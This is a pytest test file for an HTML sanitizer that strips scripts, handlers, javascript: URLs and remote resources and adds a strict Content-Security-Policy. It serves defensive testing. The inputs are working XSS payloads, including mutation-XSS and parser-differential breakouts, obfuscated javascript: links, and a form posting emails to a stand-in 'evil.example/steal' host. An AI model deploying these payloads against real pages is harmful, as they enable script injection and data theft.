"""sanitize: each hostile vector is gone, the benign content around it survives; CDN assets local."""

from __future__ import annotations

import re
import time
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote

import html5lib
import pytest

from replicator.config import PROJECT_DIR
from replicator.errors import InputTooLarge
from replicator.models import Page
from replicator.sanitize import MAX_NESTING_DEPTH, Sanitizer, csp_for

NODE_MODULES = PROJECT_DIR / "node_modules"


@pytest.fixture(scope="module")
def sanitizer(tmp_path_factory: pytest.TempPathFactory) -> Sanitizer:
    return Sanitizer(NODE_MODULES, cache_dir=tmp_path_factory.mktemp("asset-cache"))


def tree(page: Page | str) -> ET.Element:
    """The output parsed again the way a browser parses it."""
    html = page.html if isinstance(page, Page) else page
    return html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)


def texts(page: Page) -> str:
    body = tree(page).find("body")
    assert body is not None
    return " ".join(" ".join(t.strip() for t in body.itertext() if t.strip()).split())


def elements(page: Page, name: str) -> list[ET.Element]:
    return [el for el in tree(page).iter() if isinstance(el.tag, str) and el.tag.rsplit("}", 1)[-1] == name]


def all_attributes(page: Page) -> list[tuple[str, str, str]]:
    return [
        (el.tag.rsplit("}", 1)[-1], key.rsplit("}", 1)[-1], value)
        for el in tree(page).iter()
        if isinstance(el.tag, str)
        for key, value in el.attrib.items()
    ]


def doc(body: str, head: str = "") -> str:
    return f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'


BOTH = pytest.mark.parametrize("mode", ["static", "interactive"])


# --- the Content-Security-Policy ------------------------------------------------------------------


@BOTH
def test_csp_meta_is_the_first_element_of_head(sanitizer: Sanitizer, mode: str) -> None:
    page = sanitizer.sanitize(doc("<p>hi</p>", head="<title>t</title><style>p{}</style>"), mode)  # type: ignore[arg-type]
    head = tree(page).find("head")
    assert head is not None
    first = head[0]
    assert first.tag == "meta" and first.get("http-equiv") == "Content-Security-Policy"
    assert first.get("content") == page.csp == csp_for(mode)  # type: ignore[arg-type]
    for directive in (
        "default-src 'none'",
        "connect-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-src 'none'",
        "object-src 'none'",
        "img-src data: blob:",
        "font-src data:",
        "style-src 'unsafe-inline'",
    ):
        assert directive in page.csp
    expected_script = "script-src 'unsafe-inline'" if mode == "interactive" else "script-src 'none'"
    assert expected_script in page.csp
    assert texts(page) == "hi"


def test_model_supplied_csp_meta_is_replaced_by_ours(sanitizer: Sanitizer) -> None:
    head = '<meta http-equiv="Content-Security-Policy" content="default-src *">'
    page = sanitizer.sanitize(doc("<p>x</p>", head), "interactive")
    metas = [m for m in elements(page, "meta") if m.get("http-equiv")]
    assert [m.get("content") for m in metas] == [page.csp]


def test_output_declares_utf8_once(sanitizer: Sanitizer) -> None:
    head = '<meta charset="iso-8859-1"><meta http-equiv="Content-Type" content="text/html; charset=gbk">'
    page = sanitizer.sanitize(doc("<p>中文</p>", head), "static")
    charsets = [m.get("charset") for m in elements(page, "meta") if m.get("charset")]
    assert charsets == ["utf-8"]
    assert not [m for m in elements(page, "meta") if (m.get("http-equiv") or "").lower() == "content-type"]
    assert texts(page) == "中文"


# --- scripts and handlers -------------------------------------------------------------------------


@BOTH
def test_external_script_is_removed(sanitizer: Sanitizer, mode: str) -> None:
    page = sanitizer.sanitize(
        doc('<script src="https://evil.example/x.js"></script><p>kept</p><script>var ok = 1;</script>'),
        mode,  # type: ignore[arg-type]
    )
    assert "evil.example" not in page.html
    assert any("external script" in r for r in page.removed)
    assert texts(page).startswith("kept")
    inline = [s.text for s in elements(page, "script")]
    assert inline == (["var ok = 1;"] if mode == "interactive" else [])


def test_all_scripts_are_removed_in_static_mode(sanitizer: Sanitizer) -> None:
    body = '<p>text</p><script>document.body.innerHTML=""</script><svg><script>alert(1)</script><rect/></svg>'
    page = sanitizer.sanitize(doc(body), "static")
    assert elements(page, "script") == []
    assert "innerHTML" not in page.html and "alert" not in page.html
    assert texts(page) == "text"
    assert elements(page, "rect")


def test_inline_handlers_are_kept_in_interactive_mode(sanitizer: Sanitizer) -> None:
    page = sanitizer.sanitize(doc('<button onclick="go()">Go</button><body onload="init()">'), "interactive")
    assert elements(page, "button")[0].get("onclick") == "go()"


def test_declarative_shadow_roots_are_open_in_interactive_mode(sanitizer: Sanitizer) -> None:
    """The live preview's guard finds a clicked link through the event's path, which stops at a
    closed root's host: a closed declarative root becomes an open one (rendered the same)."""
    body = (
        '<div><template shadowrootmode=" Closed "><a href="https://elsewhere.example/">out</a></template></div>'
        '<div><template shadowrootmode="open"><b>in</b></template></div>'
    )
    page = sanitizer.sanitize(doc(body), "interactive")
    assert [t.get("shadowrootmode") for t in elements(page, "template")] == ["open", "open"]


def test_inline_handlers_are_removed_in_static_mode(sanitizer: Sanitizer) -> None:
    body = '<button onclick="go()" class="btn">Go</button><div OnMouseOver="x()">hover</div><svg onload="y()"></svg>'
    page = sanitizer.sanitize(doc(body), "static")
    assert not [a for a in all_attributes(page) if a[1].lower().startswith("on")]
    assert elements(page, "button")[0].get("class") == "btn"
    assert texts(page) == "Go hover"


@BOTH
def test_svg_style_differential_payload_is_neutralised(sanitizer: Sanitizer, mode: str) -> None:
    # Inside <svg>, <style> is not raw text: the <img> breaks out, in html5lib exactly as in Chromium.
    page = sanitizer.sanitize(doc("<svg><style><img src=x onerror=alert(1)></style></svg><p>after</p>"), mode)  # type: ignore[arg-type]
    imgs = elements(page, "img")
    assert len(imgs) == 1
    assert imgs[0].get("src", "").startswith("data:image/svg+xml")  # no request to ./x
    if mode == "static":
        assert imgs[0].get("onerror") is None and "onerror" not in page.html
    assert "after" in texts(page)


def test_escaped_markup_in_svg_style_stays_text(sanitizer: Sanitizer) -> None:
    svg = '<svg><style>.a::after{content:"&lt;img src=x onerror=alert(1)&gt;"}</style><text class="a">t</text></svg>'
    page = sanitizer.sanitize(doc(svg), "static")
    assert elements(page, "img") == []  # the writer escaped it, so a re-parse sees text again
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.html


def test_mathml_mglyph_mutation_payload_cannot_create_an_element(sanitizer: Sanitizer) -> None:
    payload = (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1'
        '&Tab;onerror=alert(1)&gt;">'
    )
    page = sanitizer.sanitize(doc(payload), "static")
    # Chromium parses this differently from any library (mglyph in MathML); the output is safe either
    # way: no comment can open, and no attribute value holds a raw < or > to break out with.
    assert "<!--" not in page.html
    assert not re.search(r'="[^"]*[<>]', page.html)
    assert not [a for a in all_attributes(page) if a[1] == "onerror"]


def test_noscript_attribute_payload_is_dropped(sanitizer: Sanitizer) -> None:
    # Chromium (scripting on) reads noscript as raw text: the <img> is a real element. So do we.
    payload = '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>ok</p>'
    page = sanitizer.sanitize(doc(payload), "static")
    assert "onerror" not in page.html and elements(page, "noscript") == []
    assert elements(page, "img")[0].get("src", "").startswith("data:")
    assert "ok" in texts(page)


def test_html_comments_are_dropped(sanitizer: Sanitizer) -> None:
    page = sanitizer.sanitize(
        doc("<!-- secret --><p>x</p><!--[if IE]><script src=a.js></script><![endif]-->"), "static"
    )
    assert "<!--" not in page.html and "secret" not in page.html
    assert texts(page) == "x"


# --- javascript: URLs, forms ----------------------------------------------------------------------


@BOTH
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:x",
    ],
)
def test_javascript_links_are_neutralised(sanitizer: Sanitizer, mode: str, url: str) -> None:
    body = f'<a href="{url}" class="link">Click</a><svg><a xlink:href="{url}"><text>svg</text></a></svg>'
    page = sanitizer.sanitize(doc(body), mode)  # type: ignore[arg-type]
    values = [v.lower().replace("\t", "") for _, k, v in all_attributes(page) if k == "href"]
    assert not [v for v in values if "script:" in v]
    link = elements(page, "a")[0]
    assert link.get("href") == "#" and link.get("class") == "link"  # still looks like a link
    assert texts(page) == "Click svg"


@BOTH
def test_javascript_urls_in_src_action_and_formaction_are_removed(sanitizer: Sanitizer, mode: str) -> None:
    body = (
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Send</button></form>'
        '<img src="javascript:alert(3)" alt="pic">'
    )
    page = sanitizer.sanitize(doc(body), mode)  # type: ignore[arg-type]
    assert "javascript" not in page.html.lower()
    assert elements(page, "img")[0].get("alt") == "pic"


@BOTH
def test_form_posting_to_a_remote_host_posts_nowhere(sanitizer: Sanitizer, mode: str) -> None:
    body = (
        '<form action="https://evil.example/steal" method="post"><input name="email" placeholder="Email">'
        '<button type="submit" formaction="//evil.example/2">Subscribe</button></form>'
    )
    page = sanitizer.sanitize(doc(body), mode)  # type: ignore[arg-type]
    assert "evil.example" not in page.html
    form = elements(page, "form")[0]
    assert form.get("action") is None and form.get("method") == "post"
    assert elements(page, "input")[0].get("placeholder") == "Email"
    assert "form-action 'none'" in page.csp
    assert any("form action" in r for r in page.removed)


# --- remote resources -----------------------------------------------------------------------------


def test_remote_stylesheet_link_is_removed_and_inline_style_kept(sanitizer: Sanitizer) -> None:
    head = (
        '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/daisyui@4/dist/full.css">'
        "<style>.card{color:#123456}</style>"
    )
    page = sanitizer.sanitize(doc('<div class="card">c</div>', head), "static")
    assert elements(page, "link") == [] and "daisyui" not in page.html
    assert any(".card{color:#123456}" in (s.text or "") for s in elements(page, "style"))


def test_remote_image_becomes_a_grey_placeholder_of_the_same_size(sanitizer: Sanitizer) -> None:
    body = (
        '<img src="https://images.example/hero.jpg" width="640" height="360" alt="Hero" class="rounded">'
        '<img src="https://via.placeholder.com/150x100" alt="Logo">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
    )
    page = sanitizer.sanitize(doc(body), "static")
    hero, logo, inline = elements(page, "img")
    assert "images.example" not in page.html and "via.placeholder" not in page.html
    hero_svg, logo_svg = unquote(hero.get("src", "")), unquote(logo.get("src", ""))
    assert hero_svg.startswith("data:image/svg+xml") and "width='640' height='360'" in hero_svg
    assert hero.get("alt") == "Hero" and hero.get("class") == "rounded" and hero.get("width") == "640"
    assert "width='150' height='100'" in logo_svg
    assert inline.get("src") == "data:image/png;base64,iVBORw0KGgo="  # local data stays


def test_remote_srcset_and_picture_sources_are_removed(sanitizer: Sanitizer) -> None:
    body = (
        '<picture><source srcset="https://cdn.example/a.webp 1x" type="image/webp">'
        '<img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a@2x.jpg 2x" alt="A"></picture>'
    )
    page = sanitizer.sanitize(doc(body), "static")
    assert "cdn.example" not in page.html
    assert elements(page, "img")[0].get("alt") == "A"


def test_remote_video_audio_and_poster_are_removed(sanitizer: Sanitizer) -> None:
    body = (
        '<video src="https://cdn.example/v.mp4" poster="https://cdn.example/p.jpg" controls width="320" height="180">'
        '<source src="https://cdn.example/v.webm"><track src="https://cdn.example/t.vtt"></video>'
        '<audio src="//cdn.example/a.mp3" controls></audio>'
    )
    page = sanitizer.sanitize(doc(body), "interactive")
    assert "cdn.example" not in page.html
    video = elements(page, "video")[0]
    assert video.get("controls") is not None and video.get("poster", "").startswith("data:image/svg+xml")


@pytest.mark.parametrize(
    "css",
    [
        ".hero{background:url(https://evil.example/bg.jpg) center/cover}",
        ".hero{background-image:URL( 'http://evil.example/bg.jpg' )}",
        ".hero{background-image:\\75rl(//evil.example/bg.jpg)}",
        '.hero{background-image:image-set("https://evil.example/bg.jpg" 1x)}',
        "@media (min-width:1px){.hero{background:url(/relative/bg.jpg)}}",
        "@font-face{font-family:X;src:url(https://evil.example/f.woff2)}",
    ],
)
def test_css_url_in_style_element_is_replaced(sanitizer: Sanitizer, css: str) -> None:
    page = sanitizer.sanitize(
        doc('<div class="hero">Hero</div>', f"<style>{css}.keep{{color:red}}</style>"), "static"
    )
    styles = " ".join(s.text or "" for s in elements(page, "style"))
    assert "evil.example" not in styles and "/relative/" not in styles
    assert ".keep{color:red}" in styles
    assert texts(page) == "Hero"


def test_css_url_in_style_attribute_is_replaced_but_local_refs_kept(sanitizer: Sanitizer) -> None:
    body = (
        '<div style="color:#333;background:url(https://evil.example/x.png)">a</div>'
        '<svg><rect fill="url(#grad)" style="fill:url(#grad)" filter="url(https://evil.example/f.svg#f)"/></svg>'
    )
    page = sanitizer.sanitize(doc(body), "static")
    assert "evil.example" not in page.html
    div = elements(page, "div")[0]
    assert "color:#333" in div.get("style", "") and "data:image/svg+xml" in div.get("style", "")
    rect = elements(page, "rect")[0]
    assert rect.get("fill") == "url(#grad)" and rect.get("style") == "fill:url(#grad)"


def test_css_import_is_removed(sanitizer: Sanitizer) -> None:
    css = '@import url("https://evil.example/a.css");@import "//evil.example/b.css";h1{color:green}'
    page = sanitizer.sanitize(doc("<h1>T</h1>", f"<style>{css}</style>"), "static")
    assert "evil.example" not in page.html and "@import" not in page.html
    assert "h1{color:green}" in page.html


def test_base_href_is_removed(sanitizer: Sanitizer) -> None:
    page = sanitizer.sanitize(
        doc('<a href="page2">next</a>', '<base href="https://evil.example/">'), "static"
    )
    assert elements(page, "base") == [] and "evil.example" not in page.html
    assert elements(page, "a")[0].get("href") == "page2"


def test_meta_refresh_is_removed(sanitizer: Sanitizer) -> None:
    head = '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta name="description" content="d">'
    page = sanitizer.sanitize(doc("<p>x</p>", head), "interactive")
    assert "evil.example" not in page.html
    assert [m.get("name") for m in elements(page, "meta") if m.get("name")] == ["description"]


@pytest.mark.parametrize(
    "rel", ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "icon", "manifest"]
)
def test_resource_hint_links_are_removed(sanitizer: Sanitizer, rel: str) -> None:
    page = sanitizer.sanitize(
        doc("<p>x</p>", f'<link rel="{rel}" href="https://evil.example/r" as="script">'), "static"
    )
    assert elements(page, "link") == [] and "evil.example" not in page.html
    assert texts(page) == "x"


@pytest.mark.parametrize(
    "embed",
    [
        '<iframe src="https://evil.example/frame" width="400" height="300" class="map"></iframe>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" class="map"></iframe>',
        '<object data="https://evil.example/o.swf" class="map"></object>',
        '<embed src="https://evil.example/e.swf" class="map">',
        '<frameset><frame src="https://evil.example/f"></frameset>',
    ],
)
def test_frames_objects_and_embeds_become_placeholders(sanitizer: Sanitizer, embed: str) -> None:
    page = sanitizer.sanitize(doc(f"<h1>Title</h1>{embed}<p>after</p>"), "interactive")
    for name in ("iframe", "frame", "object", "embed", "frameset"):
        assert elements(page, name) == []
    assert "evil.example" not in page.html and "srcdoc" not in page.html
    boxes = [d for d in elements(page, "div") if d.get("data-replicator-placeholder")]
    if "frameset" not in embed:
        assert len(boxes) == 1 and boxes[0].get("class") == "map"
        assert "Title" in texts(page) and "after" in texts(page)


def test_iframe_placeholder_keeps_the_declared_size(sanitizer: Sanitizer) -> None:
    page = sanitizer.sanitize(
        doc('<iframe src="https://maps.example/" width="400" height="300"></iframe>'), "static"
    )
    box = next(d for d in elements(page, "div") if d.get("data-replicator-placeholder"))
    assert box.get("style") == "width:400px;height:300px"


def test_srcdoc_attribute_is_removed_everywhere(sanitizer: Sanitizer) -> None:
    page = sanitizer.sanitize(doc('<div srcdoc="<script>x</script>">d</div>'), "interactive")
    assert "srcdoc" not in page.html and texts(page) == "d"


def test_svg_animation_that_rewrites_a_link_is_removed(sanitizer: Sanitizer) -> None:
    body = (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>go</text></a>'
        '<set attributeName="xlink:href" to="javascript:alert(2)"/><circle r="5"><animate attributeName="r" values="5;9"/></circle></svg>'
    )
    page = sanitizer.sanitize(doc(body), "interactive")
    assert "javascript" not in page.html
    assert len(elements(page, "animate")) == 1  # the harmless radius animation stays


def test_svg_use_of_an_external_document_is_removed_but_local_use_kept(sanitizer: Sanitizer) -> None:
    body = '<svg><defs><circle id="dot" r="4"/></defs><use href="#dot"/><use xlink:href="https://evil.example/s.svg#x"/></svg>'
    page = sanitizer.sanitize(doc(body), "static")
    assert "evil.example" not in page.html
    hrefs = [v for n, k, v in all_attributes(page) if n == "use" and k == "href"]
    assert hrefs == ["#dot"]


def test_sanitized_page_references_nothing_outside_itself(sanitizer: Sanitizer) -> None:
    hostile = (NODE_MODULES.parent / "fixtures" / "sanitize" / "hostile.html").read_text(encoding="utf-8")
    for mode in ("static", "interactive"):
        page = sanitizer.sanitize(hostile, mode)  # type: ignore[arg-type]
        if mode == "static":  # interactive keeps the page's own inline JS; CSP and the seal contain it
            assert "evil.example" not in page.html
        for tag, key, value in all_attributes(page):
            if key in ("src", "href", "poster", "data", "action", "formaction", "background"):
                ok = value.startswith(("data:", "#", "blob:")) or (tag == "a" and key == "href")
                assert ok, (mode, tag, key, value)
        assert "Quarterly report" in texts(page)


def test_sanitize_is_deterministic(sanitizer: Sanitizer) -> None:
    hostile = (NODE_MODULES.parent / "fixtures" / "sanitize" / "hostile.html").read_text(encoding="utf-8")
    assert sanitizer.sanitize(hostile, "interactive") == sanitizer.sanitize(hostile, "interactive")


@BOTH
def test_sanitize_is_idempotent(sanitizer: Sanitizer, mode: str) -> None:
    hostile = (NODE_MODULES.parent / "fixtures" / "sanitize" / "hostile.html").read_text(encoding="utf-8")
    once = sanitizer.sanitize(hostile, mode)  # type: ignore[arg-type]
    assert sanitizer.sanitize(once.html, mode).html == once.html  # type: ignore[arg-type]


def test_removed_lists_each_kind_once_with_a_count(sanitizer: Sanitizer) -> None:
    body = "".join(f'<img src="https://img.example/{i}.png">' for i in range(5))
    page = sanitizer.sanitize(doc(body), "static")
    assert page.removed == ("remote image (grey placeholder) \u00d75, e.g. https://img.example/0.png",)


def test_from_settings_uses_the_configured_assets_dir(settings: object) -> None:
    from replicator.config import Settings

    assert isinstance(settings, Settings)
    made = Sanitizer.from_settings(settings)
    assert made.assets.node_modules == settings.assets_dir


def test_missing_asset_library_degrades_to_removal_not_a_crash(tmp_path: Path) -> None:
    bare = Sanitizer(tmp_path / "no-node-modules")
    head = (
        '<script src="https://cdn.tailwindcss.com"></script>'
        '<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.5.0/css/all.min.css">'
    )
    page = bare.sanitize(doc('<p class="text-red-500">still here</p>', head), "static")
    assert texts(page) == "still here"
    assert "cdn" not in page.html
    assert any("Tailwind" in r and "not replaced" in r for r in page.removed)
    assert any("local copy missing" in r for r in page.removed)


# --- pathologically deep pages --------------------------------------------------------------------


def nesting_depth(root: ET.Element) -> int:
    """How deep the tree goes, <html> being 1 (iteratively: the tree may be deeper than Python recurses)."""
    deepest, stack = 0, [(root, 1)]
    while stack:
        el, depth = stack.pop()
        deepest = max(deepest, depth)
        stack.extend((child, depth + 1) for child in el if isinstance(child.tag, str))
    return deepest


@pytest.mark.parametrize("levels", [MAX_NESTING_DEPTH - 1, 1200, 30_000])
def test_pages_nested_deeper_than_chromium_nests_are_refused_at_once(
    sanitizer: Sanitizer, levels: int
) -> None:
    """<html> and <body> are two levels: 511 divs inside are one too many. 1200 raised RecursionError
    (a job's internal_error, a 500 from POST /checks); 30,000 took html5lib about a minute."""
    html = doc("<div>" * levels + "deep" + "</div>" * levels)
    started = time.monotonic()
    with pytest.raises(InputTooLarge) as refused:
        sanitizer.sanitize(html, "static")
    assert time.monotonic() - started < 2
    assert refused.value.code == "input_too_large" and refused.value.http_status == 413
    assert f"more than {MAX_NESTING_DEPTH} levels deep" in refused.value.message


@pytest.mark.parametrize(
    "body",
    [
        "<svg>" + "<g>" * 5000,  # foreign content
        "<table><tr><td>" * 5000,  # tables (inserted by html5lib's table rules)
        "<font>" * 5000,  # formatting elements left open
        "<b><div></b>" * 5000,  # misnested: the adoption agency's moves
        "<div/>" * 5000,  # self-closing syntax means nothing on an HTML <div>
    ],
    ids=["svg", "tables", "open-formatting", "misnested", "self-closing-div"],
)
def test_every_way_of_nesting_deep_is_refused(sanitizer: Sanitizer, body: str) -> None:
    started = time.monotonic()
    with pytest.raises(InputTooLarge):
        sanitizer.sanitize(doc(body), "interactive")
    assert time.monotonic() - started < 2


@pytest.mark.parametrize("levels", [200, MAX_NESTING_DEPTH - 2])
def test_deep_but_browser_sized_pages_sanitize_to_the_same_tree(sanitizer: Sanitizer, levels: int) -> None:
    html = doc('<div class="x" onclick="evil()">' * levels + "deep" + "</div>" * levels)
    page = sanitizer.sanitize(html, "static")
    assert nesting_depth(tree(page)) == levels + 2  # <html>, <body>, then every <div>
    assert texts(page) == "deep"
    assert len(elements(page, "div")) == levels
    assert not [a for a in all_attributes(page) if a[1] == "onclick"]
    assert sanitizer.sanitize(page.html, "static").html == page.html
